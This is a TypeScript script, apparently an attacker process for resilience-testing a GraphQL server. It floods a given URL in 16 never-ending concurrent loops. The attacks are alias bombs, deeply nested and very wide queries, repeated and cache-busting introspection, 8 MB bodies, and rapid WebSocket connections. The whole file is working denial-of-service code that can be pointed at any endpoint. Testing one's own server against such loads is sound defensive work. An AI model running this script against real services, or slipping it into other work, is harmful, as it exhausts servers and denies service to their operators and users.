/** `attacker.ts URL ATTACK`: attacks until it is ended. In a process of its own, as attackers are. */
import { once } from 'node:events';
import { Agent, request } from 'node:http';
import { getIntrospectionQuery } from 'graphql';
import { WebSocket } from 'ws';

const AT_A_TIME = 16;

const [, , url = '', attack = ''] = process.argv;
const agent = new Agent({ keepAlive: true });

const post = async (body: string | Buffer): Promise<void> => {
  const sent = request(`${url}/graphql`, {
    ...{ method: 'POST', agent, headers: { 'content-type': 'application/json' } },
  });
  sent.end(body);
  const [response] = await once(sent, 'response');
  response.resume();
  await once(response, 'end');
};
const ask = (query: string) => post(JSON.stringify({ query }));
const repeated = (count: number, text: (nth: number) => string) =>
  Array.from({ length: count }, (_, nth) => text(nth)).join(' ');

let nth = 0;
const attacks: Readonly<Record<string, () => Promise<void>>> = {
  'alias bombs': () => ask(`{ ${repeated(1_200, (alias) => `a${nth++}x${alias}: me { id }`)} }`),
  'deep queries': () =>
    ask(`{ me ${'{ entries { edges { node { author '.repeat(300)} { id } ${'} } } } '.repeat(300)} }`),
  'wide queries': () => ask(`{ me { ${'id '.repeat(4_900)} } }`),
  introspection: () => ask(getIntrospectionQuery()),
  'introspection, never the same': () => ask(`${getIntrospectionQuery()} # ${nth++}`),
  'bodies of 8 MB': () => post(Buffer.alloc(8 * 1_048_576, 0x20)),
  sockets: async () => {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
    await once(socket, 'open');
    socket.send('{"type":"connection_init"}');
    await once(socket, 'message');
    socket.terminate();
  },
};

const attacking = async (): Promise<never> => {
  for (;;) await attacks[attack]!().catch(() => {});
};
await Promise.all(Array.from({ length: AT_A_TIME }, attacking));
